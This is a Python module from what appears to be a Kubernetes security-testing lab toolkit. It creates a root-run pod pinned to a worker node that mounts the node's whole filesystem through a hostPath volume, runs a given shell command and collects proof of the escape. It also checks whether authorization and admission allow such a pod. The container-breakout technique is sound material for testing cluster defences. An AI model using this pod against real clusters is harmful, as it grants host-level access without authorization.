"""A pod that mounts all files of its machine: helpers of the container breakouts."""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence
from typing import TYPE_CHECKING, Any

from labkit.errors import ProbeError
from labkit.lab.traces import Trace, leaving
from labkit.model import Foothold, Model
from labkit.model.decision import Action
from labkit.model.pod_security import admits
from labkit.techniques._lib.api.access import (
    api_url,
    apiserver_of,
    caller_at,
    may_write,
    options_at,
)
from labkit.techniques._lib.api.ask import ask
from labkit.techniques._lib.machines.admin import create, read
from labkit.techniques._lib.machines.reach import Answer, request
from labkit.techniques._lib.machines.waiting import wait_for
from labkit.techniques._lib.technique import Prediction, SentRequest, all_of, holds
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = [
    "MOUNT",
    "PLAIN",
    "WORKER",
    "break_out",
    "may_break_out",
    "plain_pod",
    "requests",
    "with_host_path",
]

NAMESPACE, NAME, WORKER = "default", "labkit-breakout", "worker1"
#: The namespace and the name of the pod that is created.
PLAIN = (NAMESPACE, NAME)
PODS = f"/api/v1/namespaces/{NAMESPACE}/pods"
#: The path of the machine's files in the pod.
MOUNT = "/machine"
PATIENCE, ROOT, ORDINARY_USER = 30.0, 0, 1000
ACTION = Action("create", "pods", namespace=NAMESPACE)


def may_break_out(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether authorizers and admission let a caller create such a pod."""
    apiserver, caller = apiserver_of(model.environment), caller_at(model.environment, foothold)
    admitted = admits(model.environment, apiserver, NAMESPACE, with_host_path(plain_pod(WORKER)))
    return all_of(may_write(model, caller, ACTION), holds(admitted, "admitted"))


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the request that creates the pod."""
    return [SentRequest(caller_at(model.environment, foothold), ACTION)]


def break_out(
    lab: Lab,
    technique: str,
    foothold: Foothold,
    command: str,
    proof: Callable[[str], str],
    user: int = ROOT,
) -> Verdict:
    """Create the pod, wait for its command's message, and delete the pod.

    Parameters
    ----------
    lab : Lab
    technique : str
    foothold : Foothold
    command : str
        For a shell in the pod. It writes its message to ``/dev/termination-log``.
    proof : callable
        Takes the message. It returns the evidence of what the attacker gained, or raises
        :class:`ProbeError`.
    user : int
        The user ID of the pod.

    Returns
    -------
    Verdict

    Raises
    ------
    ProbeTimeout
        The pod did not run in time.
    ProbeError
        The answer is neither the pod nor a known refusal.
    """
    with leaving(lab, Trace("object", f"{PODS}/{NAME}")):
        return ask(
            lab,
            technique,
            foothold,
            api_url(lab, PODS),
            body=json.dumps(with_host_path(plain_pod(WORKER, command, user))).encode(),
            options=options_at(lab.environment, foothold),
            proof=lambda answer: proof(_wait_for_message(lab, answer)),
            control=lambda: _control(lab, foothold),
        )


def plain_pod(node: str, command: str = "true", user: int = ORDINARY_USER) -> dict[str, Any]:
    """Return a pod without mounts that is already bound to a machine."""
    container: dict[str, Any] = {
        "name": "breakout",
        "image": "labkit/workload:1",
        "imagePullPolicy": "Never",
        "command": ["sh", "-c", command],
        "securityContext": {"runAsUser": user},
    }
    spec = {
        "nodeName": node,
        "restartPolicy": "Never",
        "automountServiceAccountToken": False,
        "containers": [container],
    }
    metadata = {"name": NAME, "namespace": NAMESPACE}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": spec}


def with_host_path(pod: dict[str, Any]) -> dict[str, Any]:
    spec = pod["spec"]
    spec["containers"][0]["volumeMounts"] = [{"name": "machine", "mountPath": MOUNT}]
    spec["volumes"] = [{"name": "machine", "hostPath": {"path": "/"}}]
    return pod


def _wait_for_message(lab: Lab, answer: Answer) -> str:
    """Wait until the pod has ended, and return its message."""
    if json.loads(answer.body).get("kind") != "Pod":
        raise ProbeError("the apiserver answered, but not with a pod")

    def ask() -> str:
        return _termination_message(read(lab, f"{PODS}/{NAME}"))

    return wait_for(lab, ask, PATIENCE, "the pod did not run")


def _termination_message(pod: Any) -> str:
    for status in pod.get("status", {}).get("containerStatuses", ()):
        return str(status["state"].get("terminated", {}).get("message", ""))
    return ""


def _control(lab: Lab, foothold: Foothold) -> str:
    """Show, after a refusal, that a pod without mounts may be created."""
    pod, dry = plain_pod(WORKER), f"{PODS}?dryRun=All"
    body = json.dumps(pod).encode()
    options = options_at(lab.environment, foothold)
    if not request(lab, api_url(lab, dry), foothold=foothold, body=body, options=options).refusal:
        return "the same caller may create a pod that mounts nothing (a dry run)"
    create(lab, dry, pod)
    return "the administrator may create a pod that mounts nothing (a dry run)"
